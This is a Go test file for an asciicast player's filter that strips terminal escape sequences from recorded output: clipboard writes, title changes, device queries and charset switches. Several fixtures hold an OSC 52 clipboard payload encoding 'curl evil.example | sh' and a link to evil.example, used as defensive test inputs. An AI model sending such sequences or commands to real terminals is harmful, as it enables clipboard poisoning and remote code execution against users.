package asciicast

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// filterCases are terminal output and what the Filter passes of it.
var filterCases = []struct {
	name, in, out string
}{
	// What renders a session passes unchanged.
	{"text", "café ✓ 😀 \"q\" \\ ~", "café ✓ 😀 \"q\" \\ ~"},
	{"controls", "a\r\n\tb\bc\a\x0e\x0f\v\f", "a\r\n\tb\bc\a\x0e\x0f\v\f"},
	{"colours", "\x1b[1;31mred\x1b[0m \x1b[38;2;255;0;0mtrue\x1b[m \x1b[4:3mcurly\x1b[38;5;208mx\x1b[39;49m",
		"\x1b[1;31mred\x1b[0m \x1b[38;2;255;0;0mtrue\x1b[m \x1b[4:3mcurly\x1b[38;5;208mx\x1b[39;49m"},
	{"ls --color", "\x1b[0m\x1b[01;34mbin\x1b[0m  \x1b[01;32mrun.sh\x1b[0m\r\n",
		"\x1b[0m\x1b[01;34mbin\x1b[0m  \x1b[01;32mrun.sh\x1b[0m\r\n"},
	{"cursor and erase", "\x1b[H\x1b[2J\x1b[3J\x1b[10;20H\x1b[K\x1b[1K\x1b[3A\x1b[2B\x1b[5C\x1b[D\x1b[12G\x1b[4d\x1b[2@\x1b[3P\x1b[2L\x1b[M\x1b[4X",
		"\x1b[H\x1b[2J\x1b[3J\x1b[10;20H\x1b[K\x1b[1K\x1b[3A\x1b[2B\x1b[5C\x1b[D\x1b[12G\x1b[4d\x1b[2@\x1b[3P\x1b[2L\x1b[M\x1b[4X"},
	{"scroll region", "\x1b[1;20r\x1b[2S\x1b[T\x1bM\x1bD\x1bE\x1b[r", "\x1b[1;20r\x1b[2S\x1b[T\x1bM\x1bD\x1bE\x1b[r"},
	{"alternate screen and bracketed paste", "\x1b[?1049h\x1b[?2004h\x1b[?25l\x1b[?1h\x1b=vim\x1b[?25h\x1b[?2004l\x1b[?1049l\x1b>",
		"\x1b[?1049h\x1b[?2004h\x1b[?25l\x1b[?1h\x1b=vim\x1b[?25h\x1b[?2004l\x1b[?1049l\x1b>"},
	{"save, restore, charsets, cursor style", "\x1b7\x1b8\x1b[s\x1b[u\x1b(0qqq\x1b(B\x1b)0\x1b[2 q\x1b#8\x1bc\x1b[!p",
		"\x1b7\x1b8\x1b[s\x1b[u\x1b(0qqq\x1b(B\x1b)0\x1b[2 q\x1b#8\x1bc\x1b[!p"},
	{"synchronized output", "\x1b[?2026hframe\x1b[?2026l", "\x1b[?2026hframe\x1b[?2026l"},

	// The audit's sequences.
	{"OSC 52 and OSC 0", "hi\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a\x1b]0;title\a", "hi"},
	{"DSR cursor position", "\x1b[6n", ""},
	{"DCS", "\x1bP...\x1b\\", ""},

	// Strings: OSC, DCS, SOS, PM, APC, with either end.
	{"OSC 2 with ST", "a\x1b]2;owned\x1b\\b", "ab"},
	{"OSC 8 link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"OSC 52 query", "\x1b]52;c;?\a", ""},
	{"OSC 4 colour query", "\x1b]4;1;?\x1b\\", ""},
	{"OSC 7 and 1337", "\x1b]7;file://h/tmp\a\x1b]1337;File=inline=1:AAAA\a", ""},
	{"DECRQSS", "\x1bP$q\"p\x1b\\x", "x"},
	{"XTGETTCAP", "\x1bP+q544e\x1b\\", ""},
	{"sixel", "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\", ""},
	{"tmux passthrough", "\x1bPtmux;\x1b\x1b]52;c;AAAA\a\x1b\\", ""},
	{"APC", "\x1b_Gf=100,a=q;AAAA\x1b\\", ""},
	{"PM and SOS", "\x1b^private\x1b\\\x1bXstring\x1b\\", ""},
	{"BEL does not end a DCS", "\x1bPa\ab\x1b\\c", "c"},
	{"CAN cancels", "\x1b]52;c;AAAA\x18visible", "visible"},
	{"SUB cancels", "\x1bPq\x1avisible", "visible"},
	{"ESC starts over", "\x1b]0;t\x1b[31mred", "\x1b[31mred"},

	// Requests the terminal would answer into its input.
	{"DSR", "\x1b[5n\x1b[?6n\x1b[?15n\x1b[>0n", ""},
	{"device attributes", "\x1b[c\x1b[0c\x1b[>c\x1b[>0c\x1b[=c", ""},
	{"window operations", "\x1b[21t\x1b[20t\x1b[14t\x1b[18t\x1b[8;100;200t\x1b[2t\x1b[22;0t", ""},
	{"title modes", "\x1b[>3t\x1b[>T", ""},
	{"XTVERSION", "\x1b[>q\x1b[>0q", ""},
	{"DECRQM", "\x1b[?2004$p\x1b[4$p", ""},
	{"DECREQTPARM", "\x1b[x\x1b[1x", ""},
	{"DECID", "\x1bZ", ""},
	{"ENQ", "\x05", ""},
	{"kitty keyboard", "\x1b[?u\x1b[>1u\x1b[<u\x1b[=1;1u", ""},
	{"modifyOtherKeys", "\x1b[>4;2m\x1b[?4m", ""},
	{"XTSMGRAPHICS", "\x1b[?1;1;0S", ""},
	{"media copy", "\x1b[5i\x1b[4i", ""},
	{"locator", "\x1b[1'|\x1b[2;1'z", ""},
	{"mouse and focus reporting", "\x1b[?1000h\x1b[?1002h\x1b[?1003h\x1b[?1006h\x1b[?1004h\x1b[?9h\x1b[?1015h", ""},
	{"mixed modes", "\x1b[?1049;1000;1006;25h", "\x1b[?1049;25h"},
	{"keyboard lock", "\x1b[2h\x1b[12l\x1b[4h\x1b[20l", "\x1b[4h\x1b[20l"},
	{"mode numbers as checked", "\x1b[?0001049h\x1b[?4294968296h\x1b[?1049:1h", "\x1b[?1049h"},
	{"screen title", "\x1bktitle\x1b\\", "title"},
	{"8-bit responses", "\x1b G\x1b F", ""},

	// The terminal stays in UTF-8, where 0x80 to 0x9F are only parts of
	// characters: "ě" is C4 9B (9B is CSI), "ĝ" C4 9D (9D is OSC).
	{"leaving UTF-8, then CSI 6 n", "\x1b%@ě6n", "ě6n"},
	{"leaving UTF-8, then OSC 52", "\x1b%@ĝ52;c;Y3VybCBldmls\a", "ĝ52;c;Y3VybCBldmls\a"},
	{"UTF-8 and other encodings", "\x1b%G\x1b%8\x1b%/G\x1b%/@\x1b(%@\x1b%", "\x1b%G"},
	{"8-bit controls and conformance levels", "\x1b G\x1b L\x1b N\x1b[62;0\"p\x1b[61\"p\x1b[65;1\"p", ""},
	{"charsets", "\x1b(0\x1b)B\x1b*<\x1b+A\x1b-A\x1b.F\x1b/M\x1b(%5\x1b(\"?\x1b(&4\x1bn\x1bo\x1b~\x1b}\x1b|",
		"\x1b(0\x1b)B\x1b*<\x1b+A\x1b-A\x1b.F\x1b/M\x1b(%5\x1b(\"?\x1b(&4\x1bn\x1bo\x1b~\x1b}\x1b|"},
	// Linux's console takes bytes undecoded after SO or SGR 11 or 12,
	// until SI or a reset.
	{"shift out on Linux's console", "\x0eqqq\x0fě\x0eě6n lqk é ✓\x0fě", "\x0eqqq\x0fě\x0e?6n lqk é ?\x0fě"},
	{"SGR 11 and 12", "\x1b[11mě6n\x1bcě\x1b[1;12mĝ52;c;AAAA\a\x1b[10mĝ\x0fĝ", "\x1b[11m?6n\x1bcě\x1b[1;12m?52;c;AAAA\a\x1b[10m?\x0fĝ"},
	{"SGR 11 in other spellings", "\x1b[011mě\x0f\x1b[;4294967307mě\x0f\x1b[38;2;11mě", "\x1b[011m?\x0f\x1b[;4294967307m?\x0f\x1b[38;2;11m?"},
	{"colours 11 and 12", "\x1b[38;5;11mě\x1b[48;5;12mě\x1b[38;2;11;12;11mě\x1b[38:5:11mě",
		"\x1b[38;5;11mě\x1b[48;5;12mě\x1b[38;2;11;12;11mě\x1b[38:5:11mě"},
	{"display controls mode", "\x1b[3h\x1b[3;4hě", "\x1b[4hě"},

	// C1 controls are the ESC sequences they stand for.
	{"C1 OSC", "\u009d52;c;AAAA\u009cok", "ok"},
	{"C1 CSI", "\u009b6n\u009b31mred", "\x1b[31mred"},
	{"C1 DCS, APC", "\u0090$qm\u009c\u009fG\u009c", ""},
	{"C1 ends a string", "\x1b]0;t\u0085x", "\x1bEx"},

	// Malformed sequences are dropped whole; text ends them.
	{"C0 inside a CSI", "\x1b[1\n;31mx", "\n\x1b[1;31mx"},
	{"marker not first", "\x1b[1?6n", ""},
	{"parameter after intermediate", "\x1b[1 2q", ""},
	{"too long", "\x1b[" + strings.Repeat("1;", 200) + "m", ""},
	{"non-ASCII ends a sequence", "\x1b[1é", "é"},
	{"NUL and DEL", "a\x00b\x7fc", "abc"},
	{"invalid UTF-8", "a\xffb", "a\uFFFDb"},
	{"unfinished at the end", "ok\x1b[3", "ok"},
}

func filterAll(in string) string { var f Filter; return string(f.Append(nil, in)) }

func TestFilter(t *testing.T) {
	for _, tt := range filterCases {
		t.Run(tt.name, func(t *testing.T) {
			if got := filterAll(tt.in); got != tt.out {
				t.Errorf("Filter(%q) = %q, want %q", tt.in, got, tt.out)
			}
		})
	}
}

// A sequence split across output events is filtered as a whole, wherever
// the split falls.
func TestFilterSplit(t *testing.T) {
	for _, tt := range filterCases {
		for i := 0; i <= len(tt.in); i++ {
			var f Filter
			got := f.Append(nil, tt.in[:i])
			got = f.Append(got, tt.in[i:])
			if string(got) != tt.out {
				t.Errorf("%s split at %d: %q, want %q", tt.name, i, got, tt.out)
			}
		}
		var f Filter
		var got []byte
		for i := range len(tt.in) {
			got = f.Append(got, tt.in[i:i+1])
		}
		if string(got) != tt.out {
			t.Errorf("%s byte by byte: %q, want %q", tt.name, got, tt.out)
		}
	}
}

// The same through Play and Dump, with the sequences split across events,
// and --raw's way around them.
func TestPlayFiltered(t *testing.T) {
	const file = hdr +
		"[0.1, \"o\", \"\\u001b[1;32mhi\\u001b[0m\\u001b]52;c;Y3VybCBldmls\"]\n" +
		"[0.2, \"o\", \"LmV4YW1wbGUgfCBzaAo=\\u0007\\u001b]0;ti\"]\n" +
		"[0.3, \"o\", \"tle\\u0007\"]\n" + // nothing left to write: no pause
		"[0.4, \"o\", \"\\u001b[6\"]\n" +
		"[0.5, \"o\", \"n\\u001bP$q\"]\n" +
		"[0.6, \"o\", \"m\\u001b\\\\ $ \"]\n"
	const raw = "\x1b[1;32mhi\x1b[0m\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a\x1b]0;title\a\x1b[6n\x1bP$qm\x1b\\ $ "
	const filtered = "\x1b[1;32mhi\x1b[0m $ "
	for _, tt := range []struct {
		raw  bool
		want string
	}{{false, filtered}, {true, raw}} {
		var out bytes.Buffer
		fs := &fakeSleep{}
		if err := Play(context.Background(), &out, strings.NewReader(file), PlayOptions{Raw: tt.raw, Sleep: fs.sleep}); err != nil {
			t.Fatal(err)
		}
		if out.String() != tt.want {
			t.Errorf("Play raw=%v wrote %q, want %q", tt.raw, out.String(), tt.want)
		}
		// The events left with nothing to write have no pauses of their
		// own: the wait before the last output is all of the gap.
		if want := "[100ms 500ms]"; !tt.raw && fmt.Sprint(fs.pauses) != want {
			t.Errorf("pauses %v, want %s", fs.pauses, want)
		}
		out.Reset()
		if err := Dump(&out, strings.NewReader(file), DumpOptions{Raw: tt.raw}); err != nil {
			t.Fatal(err)
		}
		if out.String() != tt.want {
			t.Errorf("Dump raw=%v wrote %q, want %q", tt.raw, out.String(), tt.want)
		}
	}
}

// FuzzFilter: whatever the output, what the Filter writes holds no string
// introducer, no C1 control, no control but the harmless ones, only
// complete sequences (it passes through a second Filter unchanged, which
// then ends with nothing pending), none of the requests, nothing that
// takes the terminal out of UTF-8 or into 8-bit controls (ESC % other than
// ESC % G, ESC SP, DECSCL, Linux's display-controls mode), no byte that a
// terminal not decoding UTF-8 takes as a C1 control after SO or SGR 11 or
// 12, and does not depend on how the output was split.
func FuzzFilter(f *testing.F) {
	for _, tt := range filterCases {
		f.Add(tt.in, uint16(len(tt.in)/2))
	}
	f.Fuzz(func(t *testing.T, in string, split uint16) {
		var fl Filter
		out := fl.Append(nil, in)
		if s := int(split); s <= len(in) {
			var f2 Filter
			parts := f2.Append(nil, in[:s])
			parts = f2.Append(parts, in[s:])
			if !bytes.Equal(parts, out) {
				t.Fatalf("split at %d: %q, whole: %q", s, parts, out)
			}
		}
		if !utf8.Valid(out) {
			t.Fatalf("not UTF-8: %q", out)
		}
		var again Filter
		if twice := again.Append(nil, string(out)); !bytes.Equal(twice, out) {
			t.Fatalf("filtered output %q filters to %q", out, twice)
		}
		if again.state != stateGround || len(again.carry) > 0 {
			t.Fatalf("filtered output %q leaves a sequence open", out)
		}
		if problem := undecodedC1(out); problem != "" {
			t.Fatalf("%s in %q", problem, out)
		}
		for i := 0; i < len(out); i++ {
			b := out[i]
			switch {
			case b < 0x20 && b != 0x1b && !safeC0(b), b == 0x7f:
				t.Fatalf("control %#x in %q", b, out)
			case b == 0xc2 && i+1 < len(out) && out[i+1] >= 0x80 && out[i+1] <= 0x9f:
				t.Fatalf("C1 control in %q", out)
			case b != 0x1b || i+1 == len(out):
			case bytes.IndexByte([]byte("]P_^X"), out[i+1]) >= 0:
				t.Fatalf("string introducer ESC %c in %q", out[i+1], out)
			case out[i+1] == '%' && (i+2 == len(out) || out[i+2] != 'G'):
				t.Fatalf("switch out of UTF-8 in %q", out)
			case out[i+1] == ' ':
				t.Fatalf("8-bit controls or conformance level switch in %q", out)
			case out[i+1] == '[':
				j := i + 2
				for j < len(out) && out[j] < 0x40 {
					j++
				}
				if j == len(out) {
					t.Fatalf("unfinished CSI in %q", out)
				}
				seq := string(out[i : j+1])
				if strings.ContainsAny(seq[len(seq)-1:], "nctxi") || strings.HasSuffix(seq, "$p") || strings.HasPrefix(seq, "\x1b[>") {
					t.Fatalf("request %q in %q", seq, out)
				}
				if strings.HasSuffix(seq, "\"p") {
					t.Fatalf("DECSCL %q in %q", seq, out)
				}
				if seq[len(seq)-1] == 'h' && slices.Contains(strings.Split(seq[2:len(seq)-1], ";"), "3") {
					t.Fatalf("display controls mode %q in %q", seq, out)
				}
			}
		}
	})
}

// undecodedC1 says where filtered output puts Linux's console out of
// UTF-8 decoding (SO, SGR 11 or 12 as csi_m reads them, until SI or RIS)
// and then writes a byte from 0x80 to 0x9F, which it would take as a C1
// control; "" when it does not.
func undecodedC1(out []byte) string {
	undecoded := false
	for i := 0; i < len(out); i++ {
		switch b := out[i]; {
		case b == 0x0e:
			undecoded = true
		case b == 0x0f:
			undecoded = false
		case b >= 0x80 && b <= 0x9f && undecoded:
			return fmt.Sprintf("byte %#x at %d after SO or SGR 11/12", b, i)
		case b == 0x1b && i+1 < len(out) && out[i+1] == 'c':
			undecoded = false
		case b == 0x1b && i+1 < len(out) && out[i+1] == '[':
			j := i + 2
			for j < len(out) && out[j] < 0x40 {
				j++
			}
			if j < len(out) && out[j] == 'm' && linuxSGR11(string(out[i+2:j])) {
				undecoded = true
			}
			i = j
		}
	}
	return ""
}

// linuxSGR11 reports whether Linux's csi_m, given these SGR parameters,
// selects the PC character set (11 or 12).
func linuxSGR11(params string) bool {
	if params != "" && params[0] >= '<' {
		return false // not an SGR: Linux's console reads ? m otherwise
	}
	var ps []uint32 // modulo 2^32, as Linux reads them
	for _, f := range strings.Split(strings.ReplaceAll(params, ":", ";"), ";") {
		var n uint32
		for _, c := range []byte(f) {
			n = n*10 + uint32(c-'0')
		}
		ps = append(ps, n)
	}
	for i := 0; i < len(ps); i++ {
		switch ps[i] {
		case 11, 12:
			return true
		case 38, 48:
			i++ // the colour's kind
			if i < len(ps) && ps[i] == 5 && i+1 < len(ps) {
				i++
			} else if i < len(ps) && ps[i] == 2 && i+3 < len(ps) {
				i += 3
			}
		}
	}
	return false
}
